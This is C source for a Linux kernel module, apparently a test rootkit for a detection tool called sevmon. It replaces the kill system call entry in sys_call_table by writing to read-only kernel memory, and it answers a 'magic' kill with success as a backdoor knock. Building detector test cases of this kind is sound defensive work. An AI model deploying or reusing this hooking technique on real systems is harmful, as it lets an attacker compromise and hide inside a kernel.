// SPDX-License-Identifier: GPL-2.0
/*
 * rk_syscall: the oldest kernel rootkit trick, a sys_call_table hook (Diamorphine and many
 * others): sys_call_table[__NR_kill] is replaced, via kallsyms and a CR0.WP-cleared write
 * into rodata, by rk_kill(), which calls the original except for the "magic" kill(MAGIC, 0),
 * which it answers with success although no process MAGIC exists (a backdoor's knock).
 *
 * Caveat on current kernels: since the branch-history-injection fix (v6.9, backported to
 * 6.1.86 and later stable kernels) x86-64 no longer dispatches system calls through
 * sys_call_table: do_syscall_64() calls x64_sys_call(), a switch over direct calls. The
 * table is kept (syscall tracing reads it), so the hook is installed and a table check sees
 * it, but the hook never runs: `calls` stays 0 and kill -0 MAGIC still fails. The module
 * reports which case it found in `dispatch` (x64_sys_call present or not).
 *
 * Parameters (read-only, /sys/module/rk_syscall/parameters/): magic (pid, default 31337),
 * calls (times rk_kill ran), slot (the table entry's address), hook (rk_kill's address),
 * orig (the replaced entry; all three in hex), entry (the slot's value, read live, hex),
 * dispatch ("table" or "x64_sys_call").
 */
#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/ptrace.h>
#include <linux/rcupdate.h>
#include <linux/unistd.h>
#define RK_WRITE_RO
#include "rk_common.h"

typedef long (*rk_sys_t)(const struct pt_regs *);

static int magic = 31337;
module_param(magic, int, 0444);
static unsigned long calls;
module_param(calls, ulong, 0444);
static char slot[20], hook[20], orig[20];	/* hex addresses */
module_param_string(slot, slot, sizeof(slot), 0444);
module_param_string(hook, hook, sizeof(hook), 0444);
module_param_string(orig, orig, sizeof(orig), 0444);
static char *dispatch = "table";
module_param(dispatch, charp, 0444);

static unsigned long *table, real;
static rk_sys_t real_kill;

/* `entry`: what sys_call_table[__NR_kill] holds right now (read at each read, hex). */
static int rk_entry_get(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%lx\n", READ_ONCE(table[__NR_kill]));
}
static const struct kernel_param_ops rk_entry_ops = { .get = rk_entry_get };
module_param_cb(entry, &rk_entry_ops, NULL, 0444);
static atomic_t inflight = ATOMIC_INIT(0);

/* x86-64 syscall wrappers take the user registers: di = pid, si = signal. */
static long rk_kill(const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&inflight);
	calls++;
	if ((int)regs->di == magic && regs->si == 0)
		ret = 0;
	else
		ret = real_kill(regs);
	atomic_dec(&inflight);
	return ret;
}

static int __init rk_init(void)
{
	unsigned long new = (unsigned long)rk_kill;
	int err;

	table = (unsigned long *)rk_lookup("sys_call_table");
	if (!table)
		return -ENOENT;
	if (rk_lookup("x64_sys_call"))
		dispatch = "x64_sys_call";
	real = table[__NR_kill];
	real_kill = (rk_sys_t)real;
	snprintf(slot, sizeof(slot), "%lx", (unsigned long)&table[__NR_kill]);
	snprintf(hook, sizeof(hook), "%lx", new);
	snprintf(orig, sizeof(orig), "%lx", real);
	err = rk_write_ro(&table[__NR_kill], &new, sizeof(new));
	if (err)
		return err;
	pr_info("rk_syscall: sys_call_table[%d] %lx -> %lx (dispatch: %s)\n",
		__NR_kill, real, new, dispatch);
	return 0;
}

static void __exit rk_exit(void)
{
	if (table[__NR_kill] == (unsigned long)rk_kill)
		rk_write_ro(&table[__NR_kill], &real, sizeof(real));
	/* No new callers now; let running ones leave rk_kill before its memory goes. */
	while (atomic_read(&inflight))
		msleep(10);
	synchronize_rcu_tasks();
	pr_info("rk_syscall: sys_call_table[%d] restored\n", __NR_kill);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("sevmon test rootkit: sys_call_table[__NR_kill] hook");
